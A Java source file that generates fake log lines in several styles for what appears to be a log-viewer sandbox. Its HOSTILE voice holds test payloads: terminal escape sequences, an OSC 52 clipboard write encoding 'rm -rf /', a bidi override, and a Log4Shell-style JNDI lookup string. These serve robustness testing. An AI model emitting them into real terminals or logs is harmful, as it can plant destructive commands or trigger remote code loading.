package dev.fumidai.sandbox.logs;

import java.time.Duration;
import java.time.Instant;
import java.util.List;

/// How a program prints.
public enum Voice {
    /// Access lines of a web server.
    ACCESS(2_300) {
        @Override
        String line(long seed, long number, Instant moment) {
            var slow = pick(seed, 40) == 0;
            return "10.20." + (1 + pick(seed, 3)) + "." + (10 + pick(seed / 3, 200)) + " - - \"GET "
                    + one(seed, PATHS) + " HTTP/1.1\" " + (slow ? 503 : 200) + " " + (120 + pick(seed / 7, 9000)) + " "
                    + (slow ? 3000 + pick(seed, 900) : 4 + pick(seed / 5, 80)) + "ms";
        }
    },
    /// Levels in brackets, in colours.
    LEVELS(3_100) {
        @Override
        String line(long seed, long number, Instant moment) {
            return switch (pick(seed, 25)) {
                case 0 -> "[ERROR] order " + (100000 + pick(seed, 90000)) + " failed: connection reset by peer";
                case 1, 2 ->
                    "\u001b[33m[WARN]\u001b[0m slow query (" + (900 + pick(seed, 4000)) + " ms): select * from orders";
                case 3 -> "\u001b[2m[DEBUG]\u001b[0m pool: " + pick(seed, 10) + " of 10 connections in use";
                default -> "[INFO] order " + (100000 + pick(seed, 90000)) + " accepted";
            };
        }
    },
    /// One JSON object a line.
    JSON(1_700) {
        @Override
        String line(long seed, long number, Instant moment) {
            return "{\"time\":\"" + moment + "\",\"level\":\"" + (pick(seed, 30) == 0 ? "error" : "info")
                    + "\",\"trace\":\"" + Long.toHexString(mixed(seed)) + "\",\"msg\":\"transfer booked\",\"amount\":"
                    + (1 + pick(seed, 99999)) + ",\"currency\":\"JPY\",\"ms\":" + (3 + pick(seed / 11, 400)) + "}";
        }
    },
    /// Japanese.
    JAPANESE(4_100) {
        @Override
        String line(long seed, long number, Instant moment) {
            return switch (pick(seed, 12)) {
                case 0 -> "[エラー] 決済 " + (10000 + pick(seed, 90000)) + " は承認されませんでした";
                case 1 -> "[警告] 応答が遅れています（" + (800 + pick(seed, 3000)) + " ミリ秒）";
                default -> "[情報] 決済 " + (10000 + pick(seed, 90000)) + " を完了しました 🍣";
            };
        }
    },
    /// Everything that a terminal must not be told by a log.
    HOSTILE(5_000) {
        @Override
        String line(long seed, long number, Instant moment) {
            return switch (Math.floorMod(number, 9)) {
                case 0 -> "\u001b[2J\u001b[Hthe screen would be empty now";
                case 1 -> "\u001b]0;another title\u0007the title would be another one";
                case 2 -> "\u001b]52;c;cm0gLXJmIC8=\u0007the clipboard would hold something";
                case 3 -> "over\rwritten, back\b\b\b\bspace, tab\tulated, bell\u0007";
                case 4 -> "\u009b31m a control sequence of one character, \u0000 nothing, \u007f delete";
                case 5 -> "right to left \u202e gnirts a \u202c, zero \u200bwidth, flag \ud83c\uddef\ud83c\uddf5";
                case 6 -> "[red]a tag[white] of somebody else's colours %s %n ${jndi:ldap://example.invalid}";
                case 7 -> "two lines\nin one event " + "x".repeat(600);
                default -> "\u001b[?1049h\u001b[?1000h\u001b[6n\u001bc modes, questions, reset";
            };
        }
    },
    /// A program on its way out of memory.
    GROWING(900) {
        @Override
        String line(long seed, long number, Instant moment) {
            return number == 0
                    ? "[INFO] loading the catalogue"
                    : "[WARN] heap: " + (64 + number * 28) + " MiB of 1024 MiB, collecting";
        }
    };

    private static final List<String> PATHS =
            List.of("/", "/items", "/items/42", "/cart", "/health", "/orders/9", "/検索");

    private final Duration period;

    Voice(long millis) {
        period = Duration.ofMillis(millis);
    }

    /// From one line to the next.
    Duration period() {
        return period;
    }

    /// A line.
    ///
    /// @param seed tells streams and lines apart
    /// @param number how many came before
    abstract String line(long seed, long number, Instant moment);

    /// Who prints how.
    ///
    /// @param image what the container runs
    public static Voice of(String image) {
        var name = image.replaceFirst("^.*/", "").replaceFirst(":.*$", "");
        return switch (name) {
            case "broken" -> GROWING;
            case "noisy" -> HOSTILE;
            case "settlement" -> JAPANESE;
            case "gateway", "ledger-api", "indexer" -> JSON;
            case "web", "envoy" -> ACCESS;
            default -> LEVELS;
        };
    }

    private static long mixed(long seed) {
        var mixed = (seed ^ seed >>> 31) * 0x9e37_79b9_7f4a_7c15L;
        return (mixed ^ mixed >>> 29) & Long.MAX_VALUE;
    }

    private static int pick(long seed, int below) {
        return (int) (mixed(seed) % below);
    }

    private static String one(long seed, List<String> texts) {
        return texts.get(pick(seed, texts.size()));
    }
}
